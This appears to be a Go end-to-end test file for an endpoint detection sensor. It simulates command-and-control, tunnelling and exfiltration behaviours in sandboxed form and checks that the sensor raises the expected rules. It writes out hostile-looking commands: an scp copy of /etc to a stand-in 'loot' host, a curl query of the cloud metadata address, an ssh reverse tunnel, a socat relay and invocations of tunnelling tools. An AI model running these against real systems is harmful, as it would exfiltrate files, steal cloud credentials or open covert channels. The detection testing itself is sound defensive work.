package e2e

import (
	"fmt"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/vigil-sensor/vigil/test/harness"
)

// Command and control and exfiltration: docs/coverage.md's rows of TA0011
// and TA0010 that are not reverse shells (those are in
// coverage_execution_test.go, where the shell is the point).
func init() {
	register(
		behaviour{
			name: "ssh to port 8443 on loopback",
			perform: func(t *testing.T, a *arena) string {
				a.hostMayFail(t, "ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-o", "StrictHostKeyChecking=no",
					"-o", "UserKnownHostsFile=/dev/null", "-p", "8443", "vigil-e2e@127.0.0.1", "true")
				return `process.executable.name:="ssh" network.peer.port:=8443`
			},
			expect: []expected{{"VGL-NET-013", "T1571"}},
		},
		behaviour{
			name: "netcat and scp run in a runc container",
			perform: func(t *testing.T, a *arena) string {
				return a.inRunc(t, "vigil-e2e-nettools", "mkdir -p /usr/bin && cp /bin/busybox /usr/bin/scp && "+
					"(nc -h; /usr/bin/scp -r /etc backup.invalid:/loot; true) 2>/dev/null")
			},
			expect: []expected{{"VGL-NET-011", "T1095"}, {"VGL-NET-012", "T1048"}},
		},
		behaviour{
			// As for the metadata address: a documentation address on the
			// loopback of a namespace made for the command.
			name: "stratum port 3333 connected to in a network namespace of its own on the host",
			perform: func(t *testing.T, a *arena) string {
				a.shell(t, "unshare --net sh -c 'ip link set lo up && ip addr add 198.51.100.7/32 dev lo && "+
					"(curl -s -m 2 http://198.51.100.7:3333/; true)'; true")
				return `event_name:="network.connect" network.peer.address:="198.51.100.7" network.peer.port:=3333`
			},
			expect: []expected{{"VGL-NET-006", "T1496.001"}},
		},
		behaviour{
			// The metadata address exists only on the loopback of a network
			// namespace made for this command (unshare --net): the connect
			// is refused there and nothing leaves the machine.
			name: "cloud metadata address queried with curl in a network namespace of its own on the host",
			perform: func(t *testing.T, a *arena) string {
				a.shell(t, "unshare --net sh -c 'ip link set lo up && ip addr add 169.254.169.254/32 dev lo && "+
					"(curl -s -m 2 http://169.254.169.254/latest/meta-data/; true)'; true")
				return `event_name:="network.connect" process.executable.name:="curl" network.peer.address:="169.254.169.254"`
			},
			expect: []expected{{"VGL-NET-009", "T1552.005"}},
		},
		behaviour{
			// Copies of /usr/bin/true under the tools' names, with the argv
			// they are started with: the rule judges the name (and code's
			// tunnel argument); nothing connects anywhere.
			name: "programs named anydesk and rustdesk, and code tunnel, run on the host",
			perform: func(t *testing.T, a *arena) string {
				dir := namedTrue(t, "anydesk", "rustdesk", "code")
				runAll(t, a, dir, "anydesk --tray", "rustdesk --service", "code tunnel --accept-server-license-terms")
				return fmt.Sprintf(`event_name:="process.exec" process.executable.path:~%q`, "^"+dir+"/")
			},
			expect: []expected{{"VGL-NET-014", "T1219"}},
		},
		behaviour{
			// Harmless programs of the tools' names, as above.
			name: "programs named ngrok, chisel and frpc, and ligolo-ng's agent, run on the host",
			perform: func(t *testing.T, a *arena) string {
				dir := namedTrue(t, "chisel", "ngrok", "frpc", "agent")
				runAll(t, a, dir, "chisel client 127.0.0.1:9 R:socks", "ngrok tcp 22", "frpc -c frpc.toml",
					"agent -connect 127.0.0.1:11601 -ignore-cert")
				return fmt.Sprintf(`event_name:="process.exec" process.executable.path:~%q`, "^"+dir+"/")
			},
			expect: []expected{{"VGL-NET-015", "T1572"}},
		},
		behaviour{
			// The real ssh client, to a loopback port nobody listens on: it
			// is refused, and no tunnel is made.
			name: "ssh -R reverse tunnel to a closed loopback port on the host",
			perform: func(t *testing.T, a *arena) string {
				port := strconv.Itoa(harness.FreePort(t))
				args := []string{"-o", "BatchMode=yes", "-o", "ConnectTimeout=1", "-o", "StrictHostKeyChecking=no",
					"-o", "UserKnownHostsFile=/dev/null", "-p", port, "-N", "-R", "18022:127.0.0.1:22", "vigil-e2e@127.0.0.1"}
				a.hostMayFail(t, "ssh", args...)
				return fmt.Sprintf(`event_name:="process.exec" process.command_line:=%q`, "ssh "+strings.Join(args, " "))
			},
			expect: []expected{{"VGL-NET-016", "T1572"}},
		},
		behaviour{
			// busybox under the name ssh: the exec is what the rule judges,
			// and busybox has no ssh applet, so nothing connects.
			name: "ssh -L local forward in a runc container",
			perform: func(t *testing.T, a *arena) string {
				return a.inRunc(t, "vigil-net-sshl", "/bin/ssh -N -L 15432:db.internal:5432 jump@127.0.0.1 2>/dev/null; true",
					harness.WithFile("/bin/ssh", busyboxPath(t))) + ` event_name:="process.exec"`
			},
			expect: []expected{{"VGL-NET-016", "T1572"}},
		},
		behaviour{
			// A copy of /usr/bin/true named socat with a relay's argv: no
			// listener is opened.
			name: "socat relay from a listener to a loopback port, by a program named socat on the host",
			perform: func(t *testing.T, a *arena) string {
				dir := namedTrue(t, "socat")
				runAll(t, a, dir, "socat TCP-LISTEN:18081,fork,reuseaddr TCP:127.0.0.1:22")
				return fmt.Sprintf(`event_name:="process.exec" process.executable.path:=%q`, filepath.Join(dir, "socat"))
			},
			expect: []expected{{"VGL-NET-017", "T1090"}},
		},
		behaviour{
			name: "curl copied as cat connects to the loopback web server",
			perform: func(t *testing.T, a *arena) string {
				// A program that connects, named like a core utility: what
				// the rule judges (the connecting process's executable name).
				cat := copyAs(t, "/usr/bin/curl", filepath.Join(tmpDir(t), "cat"))
				a.hostMayFail(t, cat, "-s", "-o", "/dev/null", "--max-time", "2", "http://"+a.web+"/")
				return fmt.Sprintf(`event_name:="network.connect" process.executable.path:=%q`, cat)
			},
			expect: []expected{{"VGL-NET-018", "T1036.005"}},
		},
	)
}
